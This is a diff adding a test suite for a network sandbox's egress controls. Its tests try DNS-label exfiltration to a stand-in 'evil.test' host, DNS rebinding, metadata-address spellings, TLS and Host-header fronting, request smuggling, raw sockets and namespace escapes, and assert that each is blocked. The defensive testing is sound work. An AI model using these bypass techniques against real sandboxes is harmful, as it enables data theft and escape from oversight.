@@ -1,2 +1,302 @@
-"""."""
+"""Ways out that must not lead anywhere. Where it can, each shows first that it works with the host's network."""
+import os
+import signal
+import time
+
+import lab as labs
+
 TESTS = []
+
+
+def test(function):
+    TESTS.append(function)
+    return function
+
+
+OPEN = ["net open"]
+
+
+def names_seen(session) -> set:
+    return {event[1] for event in session.lab.take() if event[0] == "dns"}
+
+
+@test
+def data_does_not_leave_in_the_labels_of_names(session):
+    code = """
+attempt(lambda: socket.getaddrinfo("secret-one.evil.test", 443))
+for server in sys.argv[1:]:
+    query = b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x0asecret-two\\x04evil\\x04test\\0\\0\\x10\\0\\x01"
+    def udp():
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(query, (server, 53)); return s.recv(512)[3] & 15
+    def tcp():
+        s = socket.create_connection((server, 53), 1); s.sendall(len(query).to_bytes(2, "big") + query); return s.recv(512)[5] & 15
+    print(attempt(udp), attempt(tcp))
+"""
+    run = lambda rules, *servers: session.run(rules, "/usr/bin/python3", "-c", __import__("session").HELPERS + code, *servers)
+    run(OPEN, labs.PUBLIC)
+    assert names_seen(session) == {"secret-one.evil.test", "secret-two.evil.test"}
+    done = run(["connect allowed.test"], "198.18.0.1", labs.PUBLIC)
+    assert done.out == "3 3\ntimeout ECONNREFUSED\n" or done.out == "3 3\ntimed out ECONNREFUSED\n", done
+    assert session.lab.take() == []
+
+
+@test
+def a_name_that_changes_its_address_leads_to_what_was_checked(session):
+    done = session.python(["connect rebinds.test:9000"], """
+print(exchange("rebinds.test", 9000, b"x"))
+time.sleep(5.2)   # longer than an address is used again
+print(attempt(lambda: exchange("rebinds.test", 9000, b"x")))""")
+    assert done.out == "b'xthe end'\nECONNRESET\n", done
+    assert "loopback" in session.events("refused")[0]["why"]
+
+
+@test
+def names_do_not_lead_to_this_machine_or_its_clouds_metadata(session):
+    names = ("leads-home", "leads-host", "leads-metadata", "leads-mapped", "leads-nat64", "leads-zero")
+    done = session.python([f"connect {name}.test:9000" for name in names], f"""
+print([attempt(lambda: exchange(name + ".test", 9000, b"x")) for name in {names}])""")
+    assert done.out == str(["ECONNRESET"] * len(names)) + "\n", done
+    assert not [event for event in session.lab.take() if event[0] == "echo"]
+    assert {event["host"] for event in session.events("refused")} == {name + ".test" for name in names}
+
+
+@test
+def a_name_leads_into_a_private_network_only_by_a_persons_own_exact_rule(session):
+    code = """print(attempt(lambda: exchange("corp.test", 9000, b"x")))"""
+    assert session.python(["connect *.test:9000"], code).out == "ECONNRESET\n"
+    assert "private" in session.events("refused")[0]["why"]
+    assert session.python(["connect corp.test:9000"], code).out == "b'xthe end'\n"
+    profiles = session.home / ".config/bawn/profiles/net"
+    profiles.mkdir(parents=True)
+    (profiles / "corp.bawn").write_text("connect corp.test:9000\n")
+    assert session.python(["use net/corp"], code).out == "ECONNRESET\n"
+
+
+@test
+def addresses_in_every_spelling_are_not_on_the_list(session):
+    spellings = ["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "::ffff:169.254.169.254",
+                 "0.0.0.0", "0", "127.0.0.1", "[::ffff:7f00:1]", "64:ff9b::a9fe:a9fe"]
+    done = session.python(["connect allowed.test:80"], f"""
+for spelling in {spellings}:
+    print(attempt(lambda: dial(spelling.strip("[]"), 80, 3)))""")
+    assert set(done.out.split()) <= {"ECONNREFUSED", "EAI-2", "EADDRNOTAVAIL"}, done
+    assert session.lab.take() == []
+
+
+@test
+def TLS_for_another_host_is_reset(session):
+    fetch = lambda url, *more: session.run(["connect allowed.test"], "curl", "-sS", "-k", "-m", "5", *more, url)
+    assert fetch("https://allowed.test/").status == 0
+    session.lab.take()
+    assert fetch("https://other.test/", "--connect-to", "other.test:443:allowed.test:443").status == 35
+    assert fetch("https://allowed.test/", "--resolve", f"allowed.test:443:{labs.PUBLIC}").status == 7
+    assert session.lab.take() == []
+    assert session.events("refused")[-1]["why"] == "its TLS is for another host"
+
+
+@test
+def TLS_without_a_name_and_other_words_on_443_are_reset(session):
+    done = session.python(["connect allowed.test"], """
+import ssl
+context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
+print(attempt(lambda: context.wrap_socket(dial("allowed.test", 443))), attempt(lambda: exchange("allowed.test", 443, b"GET / HTTP/1.1\\r\\n\\r\\n")),
+      attempt(lambda: exchange("allowed.test", 443, b"anything")))""")
+    assert done.out == "ECONNRESET ECONNRESET ECONNRESET\n", done
+    assert session.lab.take() == []
+
+
+@test
+def a_hello_cut_into_pieces_is_read_whole(session):
+    done = session.python(["connect allowed.test"], """
+import ssl
+context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
+def shake(name, pieces):
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    tls = context.wrap_bio(incoming, outgoing, server_hostname=name)
+    try: tls.do_handshake()
+    except ssl.SSLWantReadError: pass
+    hello = outgoing.read()
+    if pieces:   # many records, each in a segment of its own
+        body = hello[5:]
+        parts = [b"\\x16\\x03\\x01" + len(body[i:i+40]).to_bytes(2, "big") + body[i:i+40] for i in range(0, len(body), 40)]
+    else:
+        parts = [hello]
+    s = dial("allowed.test", 443)
+    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    for part in parts:
+        s.sendall(part); time.sleep(0.002)
+    return s.recv(5)[:1]
+print(attempt(lambda: shake("allowed.test", False)), attempt(lambda: shake("allowed.test", True)),
+      attempt(lambda: shake("other.test", True)))""")
+    assert done.out == "b'\\x16' b'\\x16' ECONNRESET\n", done
+
+
+@test
+def plain_HTTP_for_another_host_gets_a_403_that_says_why(session):
+    rules = ["connect allowed.test:80"]
+    fine = session.run(rules, "curl", "-sS", "-m", "5", "http://allowed.test/a", "http://allowed.test/b")
+    assert fine.status == 0 and fine.out.count("hello") == 2, fine
+    session.lab.take()
+    done = session.run(rules, "curl", "-sS", "-m", "5", "-w", "%{http_code}", "-H", "Host: other.test", "http://allowed.test/")
+    assert "bawn: this sandbox may not reach allowed.test: the request is for another host" in done.out and "403" in done.out, done
+    done = session.run(rules, "curl", "-sS", "-m", "5", "-p", "-x", "http://allowed.test:80", "https://other.test/")
+    assert done.status == 56 and "403" in done.err, done
+    done = session.python(rules, """
+two = b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET /second HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n"
+print(attempt(lambda: exchange("allowed.test", 80, two))[-200:])""")
+    assert "/second" not in str(session.lab.take()), done
+    done = session.run(["connect allowed.test:9000"], "curl", "-sS", "-m", "5", "-H", "Host: other.test", "http://allowed.test:9000/")
+    assert "for another host" in done.out, done
+
+
+@test
+def a_change_of_protocol_hides_no_second_request(session):
+    done = session.python(["connect allowed.test:80"], """
+head = b"GET %s HTTP/1.1\\r\\nHost: allowed.test\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n\\r\\n"
+with dial("allowed.test", 80) as s:
+    s.sendall(head % b"/ws")
+    print(s.recv(4096)[:12])
+    s.sendall(b"raw bytes")
+    print(s.recv(100))
+with dial("allowed.test", 80) as s:
+    s.sendall(head % b"/refuse")
+    print(s.recv(4096)[:12])
+    s.sendall(b"GET /fronted HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n")
+    print(s.recv(4096)[:12])
+with dial("allowed.test", 80) as s:
+    s.sendall(head % b"/ws" + b"GET /early HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n")
+    print(s.recv(4096)[:12])""")
+    assert done.out.splitlines()[:2] == ["b'HTTP/1.1 101'", "b'raw bytes'"], done
+    assert done.out.splitlines()[2:] == ["b'HTTP/1.1 200'", "b'HTTP/1.1 403'", "b'HTTP/1.1 403'"], done
+    seen = str(session.lab.take())
+    assert "fronted" not in seen and "early" not in seen
+
+
+@test
+def no_other_kind_of_socket_leads_out(session):
+    done = session.python(["connect allowed.test"], """
+import ctypes
+make = lambda *kind: attempt(lambda: socket.socket(*kind))
+print(make(socket.AF_PACKET, socket.SOCK_RAW, 3), make(socket.AF_VSOCK, socket.SOCK_STREAM), make(socket.AF_INET, socket.SOCK_RAW, 255),
+      make(socket.AF_INET6, socket.SOCK_RAW, 58), make(socket.AF_INET, socket.SOCK_STREAM, 132), make(socket.AF_NETLINK, socket.SOCK_RAW, 12))
+# a route away from the loopback, an address, another namespace
+def route():
+    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
+    message = struct.pack("IHHII", 28, 24, 0x405, 1, 0) + struct.pack("BBBBBBBBI", 2, 0, 0, 0, 254, 4, 0, 1, 0)
+    s.send(message)
+    return errno.errorcode[-struct.unpack("i", s.recv(4096)[16:20])[0]]
+libc = ctypes.CDLL(None, use_errno=True)
+unshare = lambda: errno.errorcode[ctypes.get_errno()] if libc.unshare(0x40000000) else "fine"
+print(attempt(route), unshare())""")
+    assert done.out == ("EAFNOSUPPORT EAFNOSUPPORT EPERM EPERM EPROTONOSUPPORT EPROTONOSUPPORT\nEPERM EPERM\n"), done
+
+
+@test
+def UDP_leads_nowhere(session):
+    code = f"""
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
+query = b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x03out\\x04test\\0\\0\\x01\\0\\x01"
+s.connect(("{labs.PUBLIC}", 53)); s.send(query)
+print(type(attempt(lambda: s.recv(512))) is bytes)"""
+    assert session.python(OPEN, code).out == "True\n" and names_seen(session) == {"out.test"}
+    assert session.python([f"connect {labs.PUBLIC}:53", "connect allowed.test"], code).out == "False\n"
+    assert session.lab.take() == []
+
+
+@test
+def garbage_at_every_parser_does_no_harm(session):
+    done = session.python(["connect allowed.test", "connect allowed.test:80", "connect allowed.test:9000"], """
+import random
+random.seed(7)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for i in range(2000):
+    s.sendto(random.randbytes(random.randrange(0, 600)), ("198.18.0.1", 53))
+def throw(host, port, data):
+    with socket.create_connection((host, port), 5) as c:
+        c.sendall(data)
+        c.settimeout(0.05)
+        try: c.recv(100)
+        except OSError: pass
+for i in range(40):
+    attempt(lambda: throw("198.18.0.1", 53, random.randbytes(300)))
+    attempt(lambda: throw("allowed.test", 443, b"\\x16\\x03\\x01" + random.randbytes(300)))
+    attempt(lambda: throw("allowed.test", 80, b"GET / HTTP/1.1\\r\\n" + random.randbytes(300)))
+print(exchange("allowed.test", 9000, b"still there"))""", timeout=60)
+    assert done.out == "b'still therethe end'\n", done
+    assert session.events("helper-died") == []
+
+
+def helpers_of(pid) -> list:
+    """The processes named bawn-egress that this bawn started."""
+    children = open(f"/proc/{pid}/task/{pid}/children").read().split()
+    return [int(child) for child in children if open(f"/proc/{child}/comm").read().strip() == "bawn-egress"]
+
+
+CHATTER = """
+print(exchange("allowed.test", 9000, b"one"), flush=True)
+held = dial("allowed.test", 9000)
+for line in sys.stdin:
+    held.settimeout(5)
+    print(attempt(lambda: held.recv(10)), attempt(lambda: exchange("198.18.0.2", 9000, b"two")), attempt(lambda: exchange("allowed.test", 9000, b"three")),
+          socket.gethostbyname("allowed.test"), flush=True)
+"""
+
+
+def chat(session):
+    from session import HELPERS
+
+    process = session.start(["connect allowed.test:9000"], "/usr/bin/python3", "-u", "-c", HELPERS + CHATTER)
+    assert process.stdout.readline() == "b'onethe end'\n"
+    (helper,) = helpers_of(process.pid)
+    return process, helper
+
+
+@test
+def when_the_helper_dies_connections_break_and_the_next_one_is_served_by_another(session):
+    process, helper = chat(session)
+    os.kill(helper, signal.SIGKILL)
+    while session.events("helper-died") == []:
+        time.sleep(0.01)
+    process.stdin.write("go\n")
+    process.stdin.flush()
+    assert process.stdout.readline() == "b'' ECONNREFUSED b'threethe end' 198.18.0.2\n"
+    process.stdin.close()
+    process.wait(timeout=10)
+    assert [event["status"] for event in session.events("helper-died")] == ["137"]
+    assert len(session.events("helper-started")) == 2
+    assert process.returncode == 0
+
+
+def is_alive(pid) -> bool:
+    try:
+        return open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[0] != "Z"
+    except FileNotFoundError:
+        return False
+
+
+@test
+def the_helper_ends_with_the_run_and_with_a_killed_bawn(session):
+    process, helper = chat(session)
+    process.stdin.close()
+    process.wait(timeout=10)
+    assert not is_alive(helper)
+    process, helper = chat(session)
+    process.kill()
+    process.wait()
+    until = time.monotonic() + 5
+    while is_alive(helper) and time.monotonic() < until:
+        time.sleep(0.01)
+    assert not is_alive(helper)
+
+
+@test
+def the_helper_itself_is_locked_in(session):
+    process, helper = chat(session)
+    status = dict(line.split(":\t", 1) for line in open(f"/proc/{helper}/status").read().splitlines() if ":\t" in line)
+    assert status["Seccomp"] == "2" and status["NoNewPrivs"] == "1", status
+    assert {status[name] for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")} == {"0" * 16}, status
+    assert [os.readlink(f"/proc/{helper}/fd/{fd}") for fd in range(3)] == ["/dev/null"] * 3
+    environment = open(f"/proc/{helper}/environ").read()
+    assert "HOME" not in environment
+    process.stdin.close()
+    process.wait(timeout=10)
